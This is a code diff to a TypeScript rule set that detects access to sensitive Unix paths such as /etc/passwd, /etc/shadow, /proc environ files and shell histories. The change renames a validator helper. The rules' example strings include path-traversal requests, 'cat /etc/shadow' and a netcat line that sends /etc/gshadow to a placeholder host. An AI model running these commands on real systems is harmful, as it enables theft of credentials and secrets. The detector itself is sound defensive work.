@@ -1,6 +1,6 @@
 import type { Rule } from '../rule.ts';
 import { expression } from './boundary.ts';
-import { isForbidden, isUsedAsFile } from './mention.ts';
+import { isOnlyNamed, isUsedAsFile } from './mention.ts';
 import { NAME_END, PATH_START, PUBLIC_PATH, pathKeywords, pathOf } from './path.ts';
 
 const COMMON = {
@@ -22,7 +22,7 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     keywords: pathKeywords('etc', 'passwd'),
     expression: expression('g', PATH_START, pathOf('etc', 'passwd'), NAME_END),
     reach: { before: 0, after: 14 },
-    validate: (match) => !isForbidden(match),
+    validate: (match) => !isOnlyNamed(match),
     describes: 'The path of the list of accounts.',
     get finds() {
       return ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'];
@@ -49,7 +49,7 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
       NAME_END,
     ),
     reach: { before: 0, after: 24 },
-    validate: (match) => !isForbidden(match),
+    validate: (match) => !isOnlyNamed(match),
     describes: 'The path of password hashes, of the rules of sudo, or of Kerberos keys.',
     get finds() {
       return ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'];
@@ -70,7 +70,7 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
       NAME_END,
     ),
     reach: { before: 36, after: 12 },
-    validate: (match) => !isForbidden(match),
+    validate: (match) => !isOnlyNamed(match),
     describes: 'The path of the environment of a running process, keys included.',
     get finds() {
       return ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'];
@@ -86,7 +86,7 @@ export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
     keywords: ['_history'],
     expression: /\.(?:bash|zsh|sh|ash|python|mysql|psql|node_repl|rediscli|sqlite)_history(?![A-Za-z0-9_-])/g,
     reach: { before: 11, after: 8 },
-    validate: (match) => isUsedAsFile(match) && !isForbidden(match),
+    validate: (match) => isUsedAsFile(match) && !isOnlyNamed(match),
     describes: 'The path of a history of typed commands, passwords among them.',
     get finds() {
       return ['cat ~/.bash_history', '{"path":"/home/u/.zsh_history"}', 'tail .mysql_history'];
